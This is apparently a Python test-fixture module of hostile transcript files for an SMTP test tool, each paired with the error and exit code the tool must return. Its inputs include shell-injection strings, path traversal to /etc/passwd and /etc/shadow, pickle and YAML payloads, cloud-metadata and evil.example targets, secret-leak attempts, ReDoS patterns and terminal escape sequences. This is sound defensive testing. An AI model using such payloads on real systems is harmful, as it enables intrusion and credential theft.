"""Transcripts as somebody might send them who means no good; `@PORT@` is where a server
listens, `@CLOSED@` where none does.

Each has a name, what is in the file, and the word and exit status that it must end with.
"""

import os
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

TOP = b"mailprobe: 1\nprotocol: smtp\n"
HERE = TOP + b"connect: 127.0.0.1:@PORT@\n"
HELLO = b"S? 220\n"
BYE = b"C: QUIT\nS? 221\n"
MAIL = b"C: DATA\nS? 354\nC: .\nS? 250\n"
SHELL = b"$(touch pwned); `touch pwned` | touch pwned && touch pwned > pwned"

OK = ("", 0)
MISMATCH = ("mismatch", 1)
SYNTAX = ("syntax", 3)
USAGE = ("usage", 2)
SECURITY = ("security", 4)
CONNECT = ("connect", 4)
TIMEOUT = ("timeout", 4)
TLS = ("tls", 4)

Prepare = Callable[[Path], None]


@dataclass(frozen=True)
class Hostile:
    """One of them.  `prepare` puts into the folder what else lies there."""

    octets: bytes
    ended: tuple[str, int]
    prepare: Prepare = field(default=lambda folder: None)
    name: str = "hostile.mpt"
    options: tuple[str, ...] = ()


def body(lines: bytes, ended: tuple[str, int] = OK, **more: object) -> Hostile:
    """Lines between a greeting and a QUIT."""
    return Hostile(HERE + b"\n" + HELLO + lines + BYE, ended, **more)  # type: ignore[arg-type]  # its fields


def head(lines: bytes, ended: tuple[str, int] = OK, rest: bytes = b"", **more: object) -> Hostile:
    """Headers above a greeting and a QUIT."""
    return Hostile(HERE + lines + b"\n" + HELLO + rest + BYE, ended, **more)  # type: ignore[arg-type]  # its fields


def target(text: bytes, ended: tuple[str, int] = SECURITY, **more: object) -> Hostile:
    """A file that wants to connect somewhere."""
    return Hostile(TOP + b"connect: " + text + b"\n\n" + HELLO + BYE, ended, **more)  # type: ignore[arg-type]  # its fields


def file(name: str, octets: bytes | str) -> Prepare:
    """A file beside the transcript."""

    def prepare(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(octets if isinstance(octets, bytes) else octets.encode())

    return prepare


def files(names: Iterable[str], octets: str) -> Prepare:
    """Several that are alike."""

    def prepare(folder: Path) -> None:
        for name in names:
            file(name, octets)(folder)

    return prepare


def link(name: str, to: str) -> Prepare:
    """A symbolic link beside the transcript."""
    return lambda folder: (folder / name).symlink_to(to)


def fifo(name: str) -> Prepare:
    """What is waited for, if somebody opens it."""
    return lambda folder: os.mkfifo(folder / name)


def sparse(folder: Path) -> None:
    """One line of 1 GB in the place of the transcript; the disk holds nothing of it."""
    path = folder / "hostile.mpt"
    with path.open("r+b") as opened:
        opened.truncate(1024**3)


def bombs(folder: Path) -> None:
    """Files that include the next one ten times: 10^9 lines, if anybody did that."""
    for depth in range(9):
        lines = f"@include {depth + 1}.mpt\n" * 10
        (folder / f"{depth}.mpt").write_text(f"mailprobe: 1\n\n{lines}")
    (folder / "9.mpt").write_text("mailprobe: 1\n\nC: NOOP\nS? 250\n")


def nested(count: int) -> bytes:
    """Blocks in blocks."""
    return b"@alt a\n" * count + b"S? 250\n" + b"@end\n" * count


# Where the file's own words would be run, or looked up, by a careless program.
SHELLS = {
    "shell in the title": head(b"title: " + SHELL + b"\n"),
    "shell in the tags": head(b"tags: " + SHELL + b"\n", SYNTAX),
    "shell in the lock": head(b"lock: " + SHELL + b"\n"),
    "shell in the source": head(b"source: " + SHELL + b"\nrecorded: " + SHELL + b"\n"),
    "shell in a setting": head(b"set x: " + SHELL + b"\n", rest=b"C~ NOOP {x}\nS? 250\n"),
    "shell in a matrix": head(b"matrix x: a=$(touch pwned) | b=`touch pwned`\n"),
    "shell in ca": head(b"ca: $(touch pwned)\n", USAGE),
    "shell in requires": head(b"requires: $(touch pwned)\n", ("usage", 5), b"C: NOOP\nS? 250\n"),
    "shell in a target": target(b"127.0.0.1:@PORT@;touch pwned", SYNTAX),
    "pipe as a target": target(b"|touch pwned", USAGE),
    "option as a target": target(b"-oProxyCommand=touch_pwned", USAGE),
    "shell in a command": body(b"C: NOOP " + SHELL + b"\nS? 250\n"),
    "shell in a step": body(b"== " + SHELL + b"\n| " + SHELL + b"\n# " + SHELL + b"\n"),
    "pipe as a body": body(b"C: DATA\nS? 354\nC< |touch pwned\nC: .\nS? 250\n", USAGE),
    "shell as an include": body(b"@include $(touch pwned).mpt\n", USAGE),
    "function exec": body(b'C~ NOOP {=exec("touch pwned")}\nS? 250\n', SYNTAX),
    "function import": body(b'C~ NOOP {=__import__("os")}\nS? 250\n', SYNTAX),
    "format string": body(b"C~ NOOP {x.__class__.__mro__}\nS? 250\n", SYNTAX),
    "python tag": Hostile(b'!!python/object/apply:os.system ["touch pwned"]\n', SYNTAX),
    "yaml anchors": Hostile(b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n", SYNTAX),
    "json bomb": Hostile(b"[" * 100_000 + b"]" * 100_000, SYNTAX),
    "pickle": Hostile(b"cos\nsystem\n(S'touch pwned'\ntR.", SYNTAX),
    "shebang": Hostile(b"#!/bin/sh\ntouch pwned\n" + HERE, SYNTAX),
    "name of the file": Hostile(
        HERE + b"\n" + HELLO + b"C: NOOP\nS? 251\n", MISMATCH, name="$(touch p*d);\x1b[2J\n::x.mpt"
    ),
    "name like an option": Hostile(HERE + b"\n" + HELLO + BYE, OK, name="--bless.mpt"),
}
FILES = {
    "include above": body(b"@include ../outside.mpt\n", SECURITY),
    "include far above": body(b"@include ../../../../../../etc/passwd\n", SECURITY),
    "include absolute": body(b"@include /etc/passwd\n", SECURITY),
    "include environ": body(b"@include /proc/self/environ\n", SECURITY),
    "include descriptor": body(b"@include /dev/fd/0\n", SECURITY),
    "include zero": body(b"@include /dev/zero\n", SECURITY),
    "include link": body(b"@include link\n", SECURITY, prepare=link("link", "/etc/passwd")),
    "include link to zero": body(b"@include link\n", SECURITY, prepare=link("link", "/dev/zero")),
    "include by folder": body(b"@include link/etc/passwd\n", SECURITY, prepare=link("link", "/")),
    "include loop of links": body(b"@include link\n", USAGE, prepare=link("link", "link")),
    "include fifo": body(b"@include fifo\n", USAGE, prepare=fifo("fifo")),
    "include folder": body(b"@include .\n", USAGE),
    "include dots": body(b"@include ..\n", SECURITY),
    "include home": body(b"@include ~/.netrc\n", USAGE),
    "include url": body(b"@include http://evil.example/x.mpt\n", USAGE),
    "include long name": body(b"@include " + b"a" * 5000 + b"\n", USAGE),
    "include itself": body(b"@include hostile.mpt\n", SYNTAX),
    "include in a circle": body(
        b"@include a.mpt\n", SYNTAX, prepare=file("a.mpt", "mailprobe: 1\n\n@include a.mpt\n")
    ),
    "include bomb": body(b"@include 0.mpt\n", SYNTAX, prepare=bombs),
    "include no transcript": body(
        b"@include data\n", SYNTAX, prepare=file("data", b"\x7fELF\0\xff\x1b[2J")
    ),
    "body above": body(b"C: DATA\nS? 354\nC< ../outside\nC: .\nS? 250\n", SECURITY),
    "body environ": body(b"C: DATA\nS? 354\nC< raw /proc/self/environ\nC: .\nS? 250\n", SECURITY),
    "body fifo": body(b"C: DATA\nS? 354\nC< fifo\nC: .\nS? 250\n", USAGE, prepare=fifo("fifo")),
    "body link": body(
        b"C: DATA\nS? 354\nC< link\nC: .\nS? 250\n", SECURITY, prepare=link("link", "/etc/shadow")
    ),
    "body is": body(b"C: NOOP\nS? 250\n@assert body is /etc/passwd\n", SECURITY),
    "body is by a value": head(b"set x: /etc/passwd\n", SECURITY, MAIL + b"@assert body is {x}\n"),
    "authority above": head(b"ca: ../../../../../../etc/ssl/certs/ca-certificates.crt\n", SECURITY),
    "case and dots": body(
        b"@include Login.mpt\n@include login.mpt\n@include ./..mpt\n",
        prepare=files(("Login.mpt", "login.mpt", "..mpt"), "mailprobe: 1\n\nC: NOOP\nS? 250\n"),
    ),
}
ENVIRONMENT = {
    "variable verbatim": body(b"C: NOOP ${HOME} ${AWS_SECRET_ACCESS_KEY} {{env.HOME}}\nS? 250\n"),
    "variable cooked": body(b"C~ NOOP ${AWS_SECRET_ACCESS_KEY}\nS? 250\n", SYNTAX),
    "variable in lower case": body(b"C~ NOOP {aws_secret_access_key}\nS? 250\n", USAGE),
    "variable in a template": body(b"C~ NOOP {{env.AWS_SECRET_ACCESS_KEY}}\nS? 250\n", SYNTAX),
    "variable in a setting": head(b"set x: {home}\n", SYNTAX),
    "function env": body(b'C~ NOOP {=env("HOME")}\nS? 250\n', SYNTAX),
    "secret elsewhere": body(b"C~ NOOP {canary}\nS? 250\n", USAGE),
    "secret in a mail": body(b"C: DATA\nS? 354\nC~ Subject: {canary}\nC: .\nS? 250\n", USAGE),
    "secret as a name": body(b"C~ MAIL FROM:<{password}@evil.example>\nS? 250\n", USAGE),
    "secret not known": body(b"C: AUTH PLAIN\nS? 334\nC~ {aws-secret-access-key}\nS? 235\n", USAGE),
    "secret in an encoding": body(b"C~ NOOP {=b64(canary)}{=hex(canary)}\nS? 250\n", USAGE),
}
TARGETS = {
    "metadata service": target(b"169.254.169.254:80"),
    "stranger": target(b"evil.example:25"),
    "stranger by url": target(b"smtp://evil.example"),
    "stranger behind a user": target(b"127.0.0.1@evil.example:25", USAGE),
    "stranger with a loopback name": target(b"localhost.evil.example:25"),
    "loopback as a number": target(b"2130706433:@PORT@"),
    "loopback in hexadecimal": target(b"0x7f000001:@PORT@"),
    "loopback cut short": target(b"127.1:@PORT@"),
    "any address": target(b"0.0.0.0:@PORT@"),
    "mapped address": target(b"[::ffff:169.254.169.254]:80"),
    "mapped loopback": target(b"[::ffff:127.0.0.1]:@PORT@"),
    "unix socket": target(b"unix:/var/run/docker.sock"),
    "port nought": target(b"127.0.0.1:0", SYNTAX),
    "port too high": target(b"127.0.0.1:99999", SYNTAX),
    "nobody there": target(b"127.0.0.1:@CLOSED@", CONNECT),
    "sandbox of another kind": target(b"sandbox/../../etc", USAGE),
    "second connection": Hostile(
        HERE + b"protocol 2: pop3\nconnect 2: evil.example:110\n\n" + HELLO + b"S2? +OK\n" + BYE,
        SECURITY,
    ),
    "no target": Hostile(TOP + b"\n" + HELLO, USAGE),
    "tls that nobody speaks": Hostile(HERE + b"tls: implicit\n\n" + HELLO, TLS),
}
PATTERNS = {
    "nested repetition": body(b"C: HELP\nS~ 250 {/(a+)+$/=a}\n", SYNTAX),
    "repeated alternatives": body(b"C: HELP\nS~ 250 {/(?:a|a)*b/=b}\n", SYNTAX),
    "wildcards side by side": body(b"C: HELP\nS~ 250 {}{}{}x\n", SYNTAX),
    "many wildcards": body(b"C: HELP\nS~ 250 " + b"{}a" * 40 + b"{}b\n", MISMATCH),
    "many optional letters": body(
        b"C: HELP\nS~ 250 {/" + b"a?" * 30 + b"a" * 30 + b"b/=" + b"a" * 30 + b"b}\n", SYNTAX
    ),
    "huge count": body(b"C: HELP\nS~ 250 {/a{1000000000}/=a}\n", SYNTAX),
    "look-around": body(b"C: HELP\nS~ 250 {/(?=a)a/=a}\n", SYNTAX),
    "back-reference": body(b"C: HELP\nS~ 250 {/(a)\\1/=aa}\n", SYNTAX),
    "broken expression": body(b"C: HELP\nS~ 250 {/(/=a}\n", SYNTAX),
    "anything goes": body(b"C: NOOP\nS? xxx\nC: NOOP\nS~ 250 {}\n"),
    "anything for a code": body(b"C: NOOP\nS~ {}\n", SYNTAX),
    "endless repeat": body(b'C~ NOOP {=repeat("a", 999999999)}\nS? 250\n', SYNTAX),
    "huge number": body(b"C: NOOP\nS? 250\n@assert stored == " + b"9" * 5000 + b"\n", MISMATCH),
    "huge number that came": body(b"C: EXPN\nS~ 250 {n:int=1}\n@assert {n} < 9\n", SYNTAX),
    "captured line ends": body(b"C: VRFY\nS~ 252 {x:any=a}\nC~ NOOP {x}\nS? 250\n", MISMATCH),
}
SIZES = {
    "one line of a gigabyte": head(b"", SYNTAX, prepare=sparse),
    "eleven megabytes": body((b"# " + b"x" * 1000 + b"\n") * 11_000, SYNTAX),
    "a line of two megabytes": body(b"C: NOOP " + b"x" * 2_000_000 + b"\nS? 250\n", SYNTAX),
    "a million events": body(b"C: NOP\n" * 1_000_000, SYNTAX),
    "a million blanks": Hostile(HERE + b"\n" * 1_000_000, SYNTAX),
    "too many variants": head(
        b"".join(
            b"matrix %s: %s\n" % (name, b" | ".join(b"v%d=%d" % (n, n) for n in range(101)))
            for name in (b"x", b"y")
        ),
        SYNTAX,
    ),
    "deep blocks": body(b"C: NOOP\n" + nested(20_000), SYNTAX),
    "many braces": body(b"C~ NOOP " + b"{" * 100_000 + b"\nS? 250\n", SYNTAX),
    "many escapes": body(b"C\\ NOOP " + b"\\x41" * 100_000 + b"\nS? xxx\n"),
    "many headers": head(b"".join(b"set a%d: x\n" % n for n in range(20_000))),
}
TEXTS = {
    "nul": body(b"C: NO\0OP\nS? 250\n", SYNTAX),
    "invalid utf-8": body(b"C: NOOP \xff\xfe\nS? 250\n", SYNTAX),
    "surrogate": body(b"C: NOOP \xed\xa0\x80\nS? 250\n", SYNTAX),
    "utf-16": Hostile((HERE + b"\n" + HELLO).decode().encode("utf-16"), SYNTAX),
    "byte order mark": Hostile(b"\xef\xbb\xbf" + HERE + b"\n" + HELLO + BYE, OK),
    "two byte order marks": Hostile(b"\xef\xbb\xbf" * 2 + HERE + b"\n" + HELLO + BYE, SYNTAX),
    "crlf": Hostile((HERE + b"\n" + HELLO + BYE).replace(b"\n", b"\r\n"), OK),
    "cr alone": Hostile((HERE + b"\n" + HELLO + BYE).replace(b"\n", b"\r"), SYNTAX),
    "mixed line ends": Hostile(HERE + b"\r\n" + HELLO.replace(b"\n", b"\r\r\n") + BYE, SYNTAX),
    "escape sequence in a comment": body(b"# \x1b]0;pwned\x07\x1b[2J\n", SYNTAX),
    "escape sequence in a title": head(b"title: \x1b]52;c;cHduZWQ=\x07\n", SYNTAX),
    "escape sequence in a step": body(b"== \x9b2J\n", SYNTAX),
    "8-bit controls": body("| \x9b31m\x85\n".encode(), SYNTAX),
    "turned around": body("| \u202e\u2066evil\n".encode(), SYNTAX),
    "line separator": body("C: NOOP\u2028C: QUIT\nS? 250\n".encode(), SYNTAX),
    "nothing to see": body("C: NOOP\u200b\u2060\nS? 250\n".encode(), SYNTAX),
    "tags of unicode": body("| \U000e0041\U000e0042\n".encode(), SYNTAX),
    "blank at the end": body(b"C: NOOP \nS? 250\n", SYNTAX),
    "escape sequence in an answer": body(b"C: HELO\nS: 250 ok\n", OK),
    "workflow command": head(b"title: ::error file=x::pwned\n", MISMATCH, b"C: NOOP\nS? 299\n"),
    "markup": head(b"title: [/nope] [link=file:///etc/passwd]\n", OK, b"== [/nope] :skull: <b>\n"),
    "merge conflict": body(b"<<<<<<< HEAD\nC: NOOP\n=======\nC: RSET\n>>>>>>> x\nS? 250\n", SYNTAX),
    "version of the future": Hostile(b"mailprobe: 2\n" + HERE.partition(b"\n")[2], SYNTAX),
    "version beyond counting": Hostile(b"mailprobe: " + b"9" * 9999 + b"\n\n", SYNTAX),
    "nothing at all": Hostile(b"", SYNTAX),
    "header twice": head(b"title: a\ntitle: b\n", SYNTAX),
    "unknown header": head(b"exec: touch pwned\n", SYNTAX),
    "unknown directive": body(b"@exec touch pwned\n", SYNTAX),
    "block without an end": body(b"@poll within=1s every=1s\n", SYNTAX),
    "end without a block": body(b"@end\n", SYNTAX),
    "line ends in a value": head(b"set x: a\\r\\nQUIT\n", SYNTAX, b"C~ NOOP {x}\nS? 250\n"),
}
TIMES = {
    "pause of many years": body(b"C@ pause 1000000000s\n", SYNTAX),
    "pause that never was": body(b"C@ pause -5s\n", SYNTAX),
    "pause of no number": body(b"C@ pause NaNs\n", SYNTAX),
    "pause of no length": body(b"C@ pause infs\n", SYNTAX),
    "pause of a day": body(b"C@ pause 1440m\n", TIMEOUT, options=("--max-time", "1s")),
    "silence of a day": body(b"S@ silent 1440m\n", TIMEOUT, options=("--max-time", "1s")),
    "reply after a day": body(b"C: ETRN\nS@ after 1440m\nS? 250\n", MISMATCH),
    "rounds for a day": head(
        b"protocol 2: smtp\n",
        MISMATCH,
        b"@poll within=1440m every=1s\nS2? 220\nC2: NOOP\nS2? 299\n@end\n",
        options=("--max-time", "1s", "--server", "2=127.0.0.1:@PORT@"),
    ),
    "patience of a day": head(
        b"timeout: 1440m\n", TIMEOUT, b"S? 220\n", options=("--max-time", "1s")
    ),
    "no patience": head(b"timeout: 0s\n", SYNTAX),
}
GROUPS = {
    "shells": SHELLS,
    "files": FILES,
    "environment": ENVIRONMENT,
    "targets": TARGETS,
    "patterns": PATTERNS,
    "sizes": SIZES,
    "texts": TEXTS,
    "times": TIMES,
}
ALL = {**SHELLS, **FILES, **ENVIRONMENT, **TARGETS, **PATTERNS, **SIZES, **TEXTS, **TIMES}

# What harmless files do, which load all that may be loaded: they pass, and fail in each way.
HARMLESS: dict[str, Hostile] = {
    "passes": head(
        b"title: x\nset x: y\nmatrix m: a=1 | b=2\nlock: x\n",
        OK,
        b"== x\n| x\nC~ NOOP {x}{=uuid}{=b64(x)}\nS~ 250 {:any=x}\nS+ {}\n"
        b"@assert state == greeted\n",
    ),
    "fails": body(b"C: NOOP\nS? 299\n", MISMATCH),
    "wants tls": Hostile(HERE + b"tls: implicit\n\n" + HELLO, TLS),
    "does not parse": body(b"X\n", SYNTAX),
    "includes": body(
        b"@include a.mpt\n", prepare=file("a.mpt", "mailprobe: 1\n\nC: NOOP\nS? 250\n")
    ),
    "polls": head(
        b"protocol 2: smtp\n",
        OK,
        b"@poll within=1s every=1s\nS2? 220\nC2: NOOP\nS2? 250\n@end\n",
        options=("--server", "2=127.0.0.1:@PORT@"),
    ),
    "sends": body(b"C: DATA\nS? 354\nC< a\nC: .\nS? 250\n", prepare=file("a", "Subject: x\n")),
}


def answers() -> Iterator[tuple[bytes, bytes]]:
    """What the server says to the verbs that some of them send."""
    yield b"HELP", b"250 " + b"a" * 10_000 + b"\r\n"
    yield b"EXPN", b"250 " + b"9" * 5000 + b"\r\n"
    yield b"VRFY", b"252 a\rQUIT\x00b\r\n"
    yield b"HELO", b"250 \x1b]52;c;cHduZWQ=\x07\x1b[2J [/nope] <script>\xe2\x80\xae\r\n"
    yield b"AUTH", b"334 \r\n"
